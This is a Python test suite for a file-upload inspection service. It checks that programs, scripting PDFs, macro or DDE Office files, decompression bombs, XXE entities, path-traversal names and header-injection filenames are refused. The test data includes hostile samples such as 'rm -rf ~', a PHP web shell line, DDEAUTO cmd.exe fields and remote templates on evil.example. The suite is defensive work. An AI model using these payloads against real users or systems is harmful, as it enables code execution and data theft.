from __future__ import annotations

import os
import random
import struct
import unicodedata
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_BZIP2, ZipFile, ZipInfo

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, NameTree, Object, Pdf, Stream, String
from PIL import Image, ImageOps
from PIL.ExifTags import IFD, Base

from domain.files import FILE_TYPES
from storage.inspection.fields import MAX_PART
from storage.inspection.inspect import inspect
from storage.inspection.kinds import OLE
from storage.inspection.names import safe_name
from storage.inspection.result import MAX_BYTES, FileRefused
from tests.made_files import GOOD, MAIN, OFFICE, RELATIONS, office, pdf, phone_photo, picture, relations, types, zipped

ALL = ("pdf", "jpeg", "png", "docx", "xlsx")


def reason(content: bytes, name: str = "berkas", accept: tuple[str, ...] = ALL) -> str:
    """Why the file is refused. Fails when it is accepted."""
    with pytest.raises(FileRefused) as refused:
        inspect(name, content, accept)
    return refused.value.reason


# ---- the kind follows from content -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ALL)
@pytest.mark.parametrize("name", ["surat.exe", "surat.pdf", "surat"])
def test_the_kind_is_told_by_content_and_not_by_the_name(kind: str, name: str) -> None:
    kept = inspect(name, GOOD[kind], ALL)
    assert kept.kind == kind
    assert kept.name.endswith(FILE_TYPES[kind].extension)
    assert kept.pages == (3 if kind == "pdf" else None)


@pytest.mark.parametrize("kind", ["pdf", "docx", "xlsx"])
def test_a_document_is_kept_byte_for_byte(kind: str) -> None:
    assert inspect("surat", GOOD[kind], ALL).content == GOOD[kind]


@pytest.mark.parametrize("kind", ALL)
def test_a_kind_that_was_not_asked_for_is_refused(kind: str) -> None:
    assert reason(GOOD[kind], accept=tuple(set(ALL) - {kind})) == "kind"


@pytest.mark.parametrize("content", [b"", b"   \r\n", bytes(5_000)])
def test_an_empty_file_is_refused(content: bytes) -> None:
    assert reason(content) == "empty"


def test_ten_megabytes_are_accepted_and_a_byte_more_is_not() -> None:
    empty = GOOD["pdf"]
    filled = empty.replace(b"%%EOF", b"%" + b"x" * (MAX_BYTES - len(empty) - 2) + b"\n%%EOF")
    assert len(filled) == MAX_BYTES
    assert inspect("surat.pdf", filled, ALL).pages == 3
    assert reason(filled + b"\n") == "too_large"


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\0" + bytes(99), b"\x7fELF\2\1\1" + bytes(9), b"\xcf\xfa\xed\xfe" + bytes(9), b"dex\n035\0" + bytes(9),
        b"#!/bin/sh\nrm -rf ~\n", b"@echo off\r\n", b"\xca\xfe\xba\xbe\0\0", b"L\0\0\0\x01\x14\x02\0" + bytes(9),
        b"\xef\xbb\xbf \n<HTML><script>", b"<?xml version='1.0'?>\n<svg xmlns='s'/>",
        b"<!-- x --><svg/>", b"<?php system($_GET[0]);",
        zipped({"AndroidManifest.xml": b"\0", "classes.dex": b"dex\n035"}),
        zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"}),
    ],
)  # fmt: skip
def test_a_program_is_refused_whatever_its_name(content: bytes) -> None:
    assert reason(content, name="undangan.pdf") == "program"


@pytest.mark.parametrize(
    "content",
    [
        b"just words", b"GIF89a" + bytes(99), OLE + bytes(999),
        b"<letter>dear</letter>", b"junk" * 300 + GOOD["pdf"], zipped({"holiday.txt": "words"}),
        zipped({"mimetype": "application/vnd.oasis.opendocument.text"}),
        zipped({"[Content_Types].xml": types("ppt/presentation.xml", "application/vnd.presentationml.main+xml")}),
    ],
)  # fmt: skip
def test_other_kinds_are_refused(content: bytes) -> None:
    assert reason(content) == "kind"


# ---- images ----------------------------------------------------------------------------------------------------------


def test_a_photo_loses_place_and_device_and_stands_upright() -> None:
    sent = phone_photo()
    assert b"SecretPhone" in sent
    assert dict(Image.open(BytesIO(sent)).getexif().get_ifd(IFD.GPSInfo))
    kept = inspect("foto.jpg", sent, ALL).content
    with Image.open(BytesIO(kept)) as shown:
        assert not dict(shown.getexif())
        assert shown.size == (48, 64)
        top, bottom = shown.getpixel((24, 5)), shown.getpixel((24, 58))
    assert isinstance(top, tuple) and isinstance(bottom, tuple)
    assert top[0] > 200 > bottom[0] and bottom[2] > 200 > top[2]
    assert not any(secret in kept for secret in (b"Secret", b"Exif", b"GPS"))


@pytest.mark.parametrize("held", range(1, 9))
def test_a_photo_is_turned_as_a_viewer_would_turn_it(held: int) -> None:
    exif = Image.Exif()
    exif[Base.Orientation] = held
    sent = picture("png", exif=exif)
    with Image.open(BytesIO(sent)) as before, Image.open(BytesIO(inspect("a", sent, ALL).content)) as after:
        assert after.tobytes() == ImageOps.exif_transpose(before).tobytes()
        assert not dict(after.getexif())


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_bytes_behind_an_image_are_removed(kind: str) -> None:
    tail = zipped({"evil.exe": b"MZ" + bytes(99)})
    kept = inspect("foto", GOOD[kind] + tail + b"<script>", ALL).content
    assert b"PK\x03\x04" not in kept and b"<script>" not in kept


def test_extra_chunks_of_a_png_are_removed() -> None:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    sent = GOOD["png"].replace(b"IDAT", b"IDAT", 1)
    at = sent.index(b"IDAT") - 4
    sent = sent[:at] + chunk(b"tEXt", b"Author\0SecretName") + chunk(b"zzZz", b"SecretData") + sent[at:]
    assert b"Secret" not in inspect("a.png", sent, ALL).content


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_every_kind_of_jpeg_stays_a_picture(mode: str) -> None:
    kept = inspect("a.jpg", picture("jpeg", mode), ALL)
    with Image.open(BytesIO(kept.content)) as shown:
        assert (shown.format, shown.size, shown.mode) == ("JPEG", (64, 48), "L" if mode == "L" else "RGB")


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_stays_as_it_was(mode: str) -> None:
    sent = picture("png", mode)
    kept = inspect("a.png", sent, ALL)
    with Image.open(BytesIO(sent)) as before, Image.open(BytesIO(kept.content)) as after:
        assert (after.format, after.mode) == ("PNG", before.mode)
        assert after.convert("RGBA").tobytes() == before.convert("RGBA").tobytes()


def test_a_transparent_colour_stays_transparent() -> None:
    kept = inspect("a.png", picture("png", "P", transparency=0), ALL).content
    with Image.open(BytesIO(kept)) as shown:
        assert shown.info == {"transparency": 0}


def test_broken_exif_does_not_refuse_a_picture() -> None:
    sent = phone_photo()
    at = sent.index(b"Exif\0\0") + 6
    assert inspect("a.jpg", sent[:at] + b"\xff" * 40 + sent[at + 40 :], ALL).kind == "jpeg"


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_a_cut_off_image_is_damaged(kind: str) -> None:
    sent = picture("jpeg" if kind == "jpeg" else "png", size=(800, 600))
    assert reason(sent[: len(sent) // 2]) == "damaged"
    assert reason(sent[:12]) == "damaged"


def png_that_claims(width: int, height: int) -> bytes:
    sent = bytearray(GOOD["png"])
    struct.pack_into(">II", sent, 16, width, height)
    struct.pack_into(">I", sent, 29, zlib.crc32(sent[12:29]))
    return bytes(sent)


@pytest.mark.parametrize(
    ("width", "height"), [(8_000, 7_501), (12_000, 9_000), (65_000, 65_000), (2**31 - 1, 2**31 - 1)]
)
def test_an_image_of_too_many_pixels_is_a_bomb(width: int, height: int) -> None:
    assert reason(png_that_claims(width, height)) == "bomb"


def test_fifty_megapixels_are_accepted() -> None:
    assert inspect("a.jpg", picture("jpeg", "L", (8_192, 6_144)), ALL).kind == "jpeg"


def test_a_webp_photo_becomes_a_jpeg() -> None:
    out = BytesIO()
    Image.new("RGB", (64, 48), "red").save(out, "webp")
    kept = inspect("foto.webp", out.getvalue(), ALL)
    assert (kept.kind, kept.name, kept.content[:3]) == ("jpeg", "foto.jpg", b"\xff\xd8\xff")


@pytest.mark.parametrize("brand", [b"heic", b"heix", b"mif1"])
def test_a_heic_photo_is_named_as_what_it_is(brand: bytes) -> None:
    assert reason(b"\0\0\0\x18ftyp" + brand + bytes(99)) == "heic"


@pytest.mark.parametrize("page", [b"<!DOCTYPE html><p>", b"<html><table>", b"\xef\xbb\xbf<table><tr><td>1"])
def test_a_web_page_named_xls_is_named_as_what_it_is(page: bytes) -> None:
    assert reason(page, "Tabel.xls") == "web_page"


def test_a_jpeg_of_a_thousand_scans_is_a_bomb() -> None:
    sent = picture("jpeg", progressive=True)
    scan = sent[sent.rindex(b"\xff\xda") : -2]
    assert inspect("a.jpg", sent, ALL).kind == "jpeg"
    assert reason(sent[:-2] + scan * 1_000 + sent[-2:]) == "bomb"


# ---- PDF -------------------------------------------------------------------------------------------------------------


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"))


def script_on_open(document: Pdf) -> None:
    document.Root.OpenAction = script()


def launch_on_open(document: Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(launch())


def in_name_tree(document: Pdf) -> None:
    tree = NameTree.new(document)
    for number in range(200):  # enough for a tree with branches
        tree[f"{number:03}"] = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([])))
    tree["script"] = document.make_indirect(script())
    document.Root.Names = Dictionary(Renditions=tree.obj)


def in_annotation(document: Pdf) -> None:
    press = Dictionary(S=Name.GoTo, D=Array([]), Next=Array([Dictionary(S=Name.URI), document.make_indirect(launch())]))
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, A=press)])


def in_page_event(document: Pdf) -> None:
    document.pages[0].AA = document.make_indirect(Dictionary(O=document.make_indirect(script())))


def nested_deep(document: Pdf) -> None:
    node: Object = script()
    for level in range(80):
        node = Array([level, node]) if level % 2 else Dictionary(Inner=node)
    document.Root.PieceInfo = node


def in_field(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def in_outline(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("1"), A=launch()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item))


def attached(document: Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ"


def attached_without_type(document: Pdf) -> None:
    packed = document.make_stream(b"MZ")
    document.pages[0].Annots = Array([Dictionary(Subtype=Name.FileAttachment, FS=Dictionary(EF=Dictionary(F=packed)))])


def script_as_stream(document: Pdf) -> None:
    stream = document.make_stream(b"app.alert(1)")
    document.Root.OpenAction = Dictionary(S=document.make_indirect(Name.JavaScript), JS=stream)


def in_a_streams_dictionary(document: Pdf) -> None:
    document.pages[0].Contents = Stream(document, b"", Dictionary(Extra=script()))


def form_with_own_language(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def reachable_from_nowhere(document: Pdf) -> None:
    document.make_indirect(script())
    document.Root.Keep = document.make_indirect(Dictionary(Open=Dictionary(S=Name.Launch)))


PACKABLE = [
    script_on_open, launch_on_open, in_name_tree, in_annotation, in_page_event, nested_deep, in_field, in_outline,
    form_with_own_language, reachable_from_nowhere,
]  # fmt: skip
IN_STREAMS = [attached, attached_without_type, script_as_stream, in_a_streams_dictionary]


@pytest.mark.parametrize("change", PACKABLE + IN_STREAMS, ids=lambda change: change.__name__)
def test_an_active_pdf_is_refused_wherever_its_action_is(change: Callable[[Pdf], None]) -> None:
    assert reason(pdf(change)) == "script_pdf"


@pytest.mark.parametrize("change", PACKABLE, ids=lambda change: change.__name__)
def test_an_active_pdf_with_object_streams_is_refused(change: Callable[[Pdf], None]) -> None:
    sent = pdf(change, packed=True)
    assert not any(word in sent for word in (b"/JavaScript", b"/Launch", b"/XFA")), "not hidden at all"
    assert reason(sent) == "script_pdf"


def test_a_pdf_that_writes_its_script_in_hexadecimal_is_refused() -> None:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.PlaceOfSameWidth)

    sent = pdf(change)
    spelled = sent.replace(b"/S /PlaceOfSameWidth", b"/#53 /J#61v#61Script")
    assert spelled != sent and len(spelled) == len(sent)
    assert reason(spelled) == "script_pdf"


def test_links_forms_bookmarks_and_page_jumps_are_fine() -> None:
    def change(document: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://bps.go.id")))
        document.pages[0].Annots = Array([link])
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])
        document.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("JavaScript"))]))
        document.Root.Note = Dictionary(S=Name.Transparency, Text=String("/JS /Launch"))

    assert inspect("formulir.pdf", pdf(change, pages=2), ALL).pages == 2


def test_a_pdf_behind_a_password_is_encrypted_and_one_with_print_rules_is_not() -> None:
    assert reason(pdf(encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))) == "encrypted"
    assert inspect("a.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="rahasia")), ALL).pages == 1
    locked = pdf(script_on_open, encryption=pikepdf.Encryption(user="", owner="rahasia"))
    assert reason(locked) == "script_pdf"


@pytest.mark.parametrize(
    "tail", [b"MZ\x90\0", b"\r\n\0\0PK\x03\x04", b"\n<script>", b"\n\n#!/bin/sh", b"\nMZ\n%%EOF\n"]
)
def test_a_program_behind_a_pdf_is_refused(tail: bytes) -> None:
    assert reason(GOOD["pdf"] + tail) == "program"


def test_a_pdf_that_is_an_archive_too_is_refused() -> None:
    assert reason(GOOD["pdf"] + b"% some words first\n" + zipped({"evil.exe": b"MZ"})) == "program"


def test_a_pdf_with_a_mark_or_blanks_before_it_is_accepted() -> None:
    assert inspect("a.pdf", b"\xef\xbb\xbf\r\n" + GOOD["pdf"], ALL).pages == 3


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"%PDF-1.4\n" + os.urandom(2_000), GOOD["pdf"][:80]])
def test_half_a_pdf_is_damaged(content: bytes) -> None:
    assert reason(content) == "damaged"


def test_a_pdf_of_no_pages_is_damaged() -> None:
    assert reason(pdf(pages=0)) == "damaged"
    assert reason(packed_pdf(b"<<>>").replace(b"/Kids[3 0 R]", b"/Kids[9 0 R]")) == "damaged"


def packed_pdf(
    payload: bytes, *, squeeze: Callable[[bytes], bytes] = zlib.compress, filters: bytes = b"/FlateDecode"
) -> bytes:
    """A hand-written PDF whose object 6 is in an object stream."""
    out = bytearray(b"%PDF-1.5\n")
    rows: dict[int, tuple[int, int, int]] = {6: (2, 5, 0)}

    def add(number: int, body: bytes) -> None:
        rows[number] = (1, len(out), 0)
        out.extend(b"%d 0 obj\n%b\nendobj\n" % (number, body))

    body = squeeze(b"6 0 " + payload)
    add(1, b"<</Type/Catalog/Pages 2 0 R/Extra 6 0 R>>")
    add(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    add(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>/Contents 4 0 R>>")
    add(4, b"<</Length 2000>>stream\n%b\nendstream" % (b" " * 2_000))
    stream = b"<</Type/ObjStm/N 1/First 4/Filter%b/Length %d>>stream\n%b\nendstream" % (filters, len(body), body)
    add(5, stream)
    start = len(out)
    rows[7] = (1, start, 0)
    table = b"".join(struct.pack(">BIH", *rows[number]) for number in sorted(rows))
    head = b"<</Type/XRef/Size 8/Root 1 0 R/W[1 4 2]/Index[1 7]/Length %d>>" % len(table)
    add(7, head + b"stream\n" + table + b"\nendstream")
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def test_a_hand_written_packed_pdf_is_read() -> None:
    assert inspect("a.pdf", packed_pdf(b"<</S/GoTo>>"), ALL).pages == 1
    assert reason(packed_pdf(b"<</S/JavaScript>>")) == "script_pdf"


@pytest.mark.parametrize(
    ("hide", "why"),
    [
        (
            lambda sent: sent.replace(b"startxref\n", b"startxref\n9"),
            "damaged",
        ),  # readable only after rebuilding the table
        (
            lambda sent: sent.replace(b"/Type/XRef", b"/Type/None").replace(b"startxref", b"trailer<</Root 1 0 R>>"),
            "damaged",
        ),
        (lambda sent: sent.replace(b"/First 4", b"/First x"), "damaged"),
        (lambda sent: sent.replace(zlib.compress(b"6 0 <</S/JavaScript>>")[2:8], b"xxxxxx"), "damaged"),
        (lambda _: packed_pdf(b"[" * 3_000 + b"<</S/JavaScript>>" + b"]" * 3_000), "bomb"),
    ],
)
def test_what_we_cannot_read_but_another_reader_might_is_refused(hide: Callable[[bytes], bytes], why: str) -> None:
    sent = packed_pdf(b"<</S/JavaScript>>")
    hidden = hide(sent)
    assert hidden != sent
    assert reason(hidden) in {why, "script_pdf"}


def lzw(_: bytes) -> bytes:
    """Any bytes: they must not be unpacked at all."""
    return bytes(range(256)) * 10


@pytest.mark.parametrize(
    "sent",
    [
        packed_pdf(b"<<" + b" " * 30_000_000 + b">>"),
        packed_pdf(b"[" + b"[] " * 1_100_000 + b"]"),
        packed_pdf(b"", squeeze=lzw, filters=b"[/LZWDecode]"),
        packed_pdf(b"", squeeze=lzw, filters=b"/L#5aWDecode"),
    ],
    ids=["too many bytes", "too many values", "a filter without bounds", "the same in hexadecimal"],
)
def test_a_pdf_that_unpacks_to_very_much_is_a_bomb(sent: bytes) -> None:
    assert len(sent) < 100_000
    assert reason(sent) == "bomb"


# ---- office files ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_links_and_pictures_in_an_office_file_are_fine(kind: str) -> None:
    links = relations(
        ("hyperlink", "https://bps.go.id", True), ("image", "media/1.png", False), ("oleObject", "a.bin", False)
    )
    assert (
        inspect(
            "a", office(kind, {"word/_rels/document.xml.rels": links, "word/embeddings/a.bin": b"MathType"}), ALL
        ).kind
        == kind
    )


#: the same relation with a namespace prefix
PREFIXED = f"""<p:Relationships xmlns:p="{RELATIONS}">
<p:Relationship Id="r1" Type="{OFFICE}/oleObject" TargetMode="External" Target="file://evil/share"/></p:Relationships>"""
MACRO_TYPE = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'


@pytest.mark.parametrize(
    "sent",
    [
        office("docx", {"word/vbaProject.bin": b"x"}),
        office("xlsx", {"xl/VBAPROJECT.BIN": b"x"}),
        office("docx", {"word/_rels/document.xml.rels": relations(("vbaProject", "picture.png", False))}),
        office("docx", more_types=MACRO_TYPE),
        office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    ],
)  # fmt: skip
def test_an_active_office_file_is_refused(sent: bytes) -> None:
    assert reason(sent) == "macro"


def related(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A Word file with a relation to something outside of the file."""
    return office("docx", {part: relations((kind, target, True))})


def field(*codes: str, part: str = "word/header1.xml", encoding: str = "utf-8") -> bytes:
    """A Word file with one field, whose instruction is split into runs."""
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>" for code in codes)
    begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
    return office("docx", {part: f"<w:hdr xmlns:w='w'><w:p>{begin}{runs}</w:p></w:hdr>".encode(encoding)})


def two_fields(first: str, second: str) -> bytes:
    begin = "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
    return field(first + begin + second)


def simple_field(code: str) -> bytes:
    return office("docx", {"word/document.xml": f"<w:p xmlns:w='w'><w:fldSimple w:instr='{code}'/></w:p>"})


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        *((related(kind, "https://evil.example/a.dotm"), "outside")
          for kind in ("oleObject", "attachedTemplate", "frame", "subDocument", "OLEOBJECT", "image")),
        (related("attachedTemplate", r"\\evil\share\a.dotm"), "outside"),
        (related("attachedTemplate", "file://evil/share/a.dotm"), "outside"),
        (related("attachedTemplate", "file:///%5C%5Cevil/share/a.dotm"), "outside"),
        (related("hyperlink", "file://evil/share/a.docx"), "outside"),
        (office("xlsx", {"xl/_rels/x.RELS": PREFIXED}), "outside"),
        (field(" DDEAUTO c:\\Windows\\cmd.exe "), "dde"),
        (field(" DD", "E excel a b "), "dde"),
        (field(" D&#68;&#x45;AUTO cmd "), "dde"),
        (field("<![CDATA[DDEAUTO cmd]]>"), "dde"),
        (two_fields("PAGE", "DDEAUTO cmd"), "dde"),
        (simple_field("&#68;DE cmd"), "dde"),
        (field(" DDEAUTO cmd ", part="word/kepala.bin"), "dde"),
        (field(" DDEAUTO cmd ", encoding="utf-16-le"), "dde"),
        (field(r' INCLUDEPICTURE "\\\\evil\\share\\a.png" \* MERGEFORMAT '), "outside"),
        (field(' INCLUDE', 'TEXT "https://evil.example/a.docx" '), "outside"),
        (simple_field('LINK Excel.Sheet.12 "file://evil/share/a.xlsx" A1'), "outside"),
        (field(r' HYPERLINK "\\\\evil\\share" '), "outside"),
        (office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x:ddeLink xmlns:x='x' ddeService='cmd'/>"}), "dde"),
        (office("docx", {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='a'/>"}), "embedded"),
        (office("docx", {"word/_rels/document.xml.rels": relations(("control", "x.xml", False))}), "embedded"),
        (office("docx", {"word/embeddings/a.bin": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
        (office("docx", {"word/embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
        (office("docx", {"word/Embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
        (office("docx", {"word/media/a.png": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
        (office("docx", {"word/embeddings/a.docm": office("docx", {"word/vbaProject.bin": b"x"})}), "macro"),
        (office("docx", {"word/_rels/document.xml.rels": relations(("aFChunk", "a.html", False))}), "embedded"),
    ],
)  # fmt: skip
def test_what_an_office_file_reaches_for_is_named(sent: bytes, why: str) -> None:
    assert reason(sent) == why


@pytest.mark.parametrize(
    "sent",
    [
        related("attachedTemplate", "file:///C:\\Users\\ani\\Kop%20Surat.dotx"),
        related("attachedTemplate", "Kop.dotx"),
        related("oleObject", "file:///D:/data/Tabel.xlsx"),
        related("hyperlink", "mailto:ani@example.go.id"),
        related("hyperlink", "file:///C:/data/Tabel.xlsx"),
        field(" PAGE ", " HYPERLINK https://bps.go.id ", " DATE \\@ dd "),
        field(r' HYPERLINK "https://bps.go.id" \l "_Toc1" \* MERGEFORMAT '),
        field(r' LINK Excel.Sheet.12 "D:\\data\\Tabel.xlsx" A1 \f 0 '),
        field(' ADDIN ZOTERO {"uri": "https://zotero.org/1", "title": "DDE dan //contoh"} '),
        office("docx", {"word/comments.xml": "<w:t>DDE adalah singkatan</w:t>"}),
    ],
)
def test_what_an_office_has_on_its_own_computer_is_taken(sent: bytes) -> None:
    assert inspect("a.docx", sent, ALL).kind == "docx"


def test_a_part_with_fields_that_is_longer_than_a_book_is_a_bomb() -> None:
    elements = b"<a/>" * (MAX_PART // 4)
    part = b"<w:p xmlns:w='w'><w:instrText>PAGE</w:instrText>" + elements + b"</w:p>"
    assert reason(office("docx", {"word/header1.xml": part, "word/media/a.png": os.urandom(MAX_PART // 150)})) == "bomb"


@pytest.mark.parametrize(
    "action",
    [
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        Dictionary(S=Name.ImportData, F=String("a.fdf")),
        Dictionary(S=Name.GoToR, F=String("//evil/share/a.pdf")),
        Dictionary(S=Name.URI, URI=String("file://evil/share/a.pdf")),
        Dictionary(S=Name.URI, URI=String("\\\\evil\\share")),
        Dictionary(S=Name.Thread, F=String("\\\\evil\\share\\a.pdf")),
        Dictionary(S=Name.Rendition, C=Dictionary(Type=Name.Filespec, UF=String("file://evil/share/a.mp4"))),
        Dictionary(Base=String("//evil/share/")),
    ],
)
def test_a_pdf_that_reaches_outside_says_so(action: Dictionary) -> None:
    assert reason(pdf(lambda document: document.Root.__setattr__("OpenAction", action))) == "outside_pdf"


def test_a_pdf_whose_content_is_in_another_file_is_refused() -> None:
    def point_elsewhere(document: Pdf) -> None:
        elsewhere = document.make_stream(b"")
        elsewhere.F = String("https://evil.example/a")
        document.pages[0].Contents = elsewhere

    assert reason(pdf(point_elsewhere)) == "outside_pdf"


def test_an_empty_tree_of_scripts_is_no_script() -> None:
    tree = Dictionary(JavaScript=Dictionary(Names=Array([])), EmbeddedFiles=Dictionary(Names=Array([])))
    assert inspect("a.pdf", pdf(lambda document: document.Root.__setattr__("Names", tree)), ALL).pages == 1


def test_an_office_file_behind_a_password_is_encrypted() -> None:
    assert reason(OLE + bytes(1_000) + "EncryptedPackage".encode("utf-16-le") + bytes(500)) == "encrypted"
    flagged = bytearray(office("docx"))
    flagged[flagged.index(b"PK\x01\x02") + 8] |= 1
    assert reason(bytes(flagged)) == "encrypted"


def many_entries() -> bytes:
    return office("docx", {f"word/{number}": b"" for number in range(2_000)})


def lying_about_sizes() -> bytes:
    """The table of contents declares 10 bytes; the entry unpacks to 50 MB."""
    sent = bytearray(office("docx", {"word/a": bytes(50_000_000)}))
    for mark, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = sent.index(b"word/a", sent.index(mark)) - name_at
        while sent[at : at + 4] != mark:
            at = sent.index(b"word/a", at + name_at + 1) - name_at
        struct.pack_into("<I", sent, at + size_at, 10)
    return bytes(sent)


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (office("docx", {"word/a": os.urandom(1_500_000) + bytes(210_000_000)}), "bomb"),
        (office("docx", {"word/a": bytes(5_000_000)}), "bomb"),
        (many_entries(), "bomb"),
        (lying_about_sizes(), "damaged"),
        (zipped({"a.txt": bytes(250_000_000)}), "bomb"),
    ],
    ids=["sum", "ratio", "entries", "lie", "no office file"],
)
def test_an_archive_that_unpacks_to_very_much_is_refused_unread(sent: bytes, why: str) -> None:
    assert len(sent) < 2_000_000
    assert reason(sent) == why


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "word\\..\\..\\x", "C:/x", "word/../../x"])
def test_an_entry_that_leaves_its_folder_is_refused(name: str) -> None:
    assert reason(office("docx", {name: b"x"})) == "damaged"


def test_two_entries_of_one_name_are_refused() -> None:
    assert reason(office("docx", {"WORD/document.xml": "<other/>"})) == "damaged"


def test_a_method_that_no_office_program_uses_is_refused() -> None:
    part, content_type = MAIN["docx"]
    assert reason(zipped({"[Content_Types].xml": types(part, content_type)}, ZIP_BZIP2)) == "damaged"


def test_a_changed_byte_in_an_office_file_is_damage() -> None:
    sent = bytearray(GOOD["docx"])
    entry = ZipFile(BytesIO(GOOD["docx"])).getinfo("word/document.xml")
    sent[entry.header_offset + 30 + len(entry.filename) + 20] ^= 0xFF
    assert reason(bytes(sent)) == "damaged"
    assert reason(GOOD["docx"][:-30]) == "damaged"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    ],
)
def test_entities_and_outside_declarations_are_refused(declared: str) -> None:
    part, content_type = MAIN["docx"]
    listed = types(part, content_type).replace("?>", "?>" + declared, 1)
    assert reason(zipped({"[Content_Types].xml": listed, part: "<x/>"})) == "damaged"


def test_a_file_that_is_two_kinds_at_once_is_none() -> None:
    part, content_type = MAIN["xlsx"]
    assert reason(office("docx", more_types=f'<Override PartName="/{part}" ContentType="{content_type}"/>')) == "kind"


def test_a_template_is_not_a_document() -> None:
    listed = types("word/document.xml", MAIN["docx"][1].replace("document.main", "template.main"))
    assert reason(zipped({"[Content_Types].xml": listed})) == "kind"


def test_a_folder_entry_is_fine() -> None:
    out = BytesIO(GOOD["docx"])
    with ZipFile(out, "a") as archive:
        archive.writestr(ZipInfo("word/media/"), b"")
    assert inspect("a.docx", out.getvalue(), ALL).kind == "docx"


# ---- random damage ---------------------------------------------------------------------------------------------------

SEEDS = [*GOOD.values(), phone_photo(), pdf(in_annotation, packed=True), packed_pdf(b"<</A[1 2.5(x)/N null true]>>")]


@pytest.mark.filterwarnings(
    "ignore::UserWarning"
)  # warnings of Pillow about broken EXIF, which are no errors in the service
@settings(max_examples=500, deadline=None)
@given(st.sampled_from(SEEDS), st.randoms(use_true_random=False))
def test_damaged_files_are_refused_or_kept_but_never_raise_anything_else(seed: bytes, chance: random.Random) -> None:
    sent = bytearray(seed)
    for _ in range(chance.randint(1, 8)):
        at = chance.randrange(len(sent))
        match chance.randrange(4):
            case 0:
                sent[at] ^= 1 << chance.randrange(8)
            case 1:
                del sent[at : at + chance.randint(1, 40)]
            case 2:
                sent[at:at] = chance.randbytes(chance.randint(1, 40))
            case _:
                sent[at : at + 4] = chance.choice([b"\0\0\0\0", b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"9999"])
        if not sent:
            break
    try:
        inspect("a", bytes(sent), ALL)
    except FileRefused as refused:
        assert refused.reason in {"kind", "damaged", "bomb", "encrypted", "empty", "script_pdf", "program", "macro"}


# ---- names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kind", "shown"),
    [
        ("Surat Pengantar.pdf", "pdf", "Surat Pengantar.pdf"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("C:\\Users\\ani\\Surat.PDF", "pdf", "Surat.pdf"),
        ("surat\r\nSet-Cookie: a=b.pdf", "pdf", "surat Set-Cookie_ a=b.pdf"),
        ("surat\x00.exe", "pdf", "surat.exe.pdf"),
        ("laporan\u202efdp.exe", "pdf", "laporanfdp.exe.pdf"),
        ("\u2066a\u200b\u2069\ufeff.pdf", "pdf", "a.pdf"),
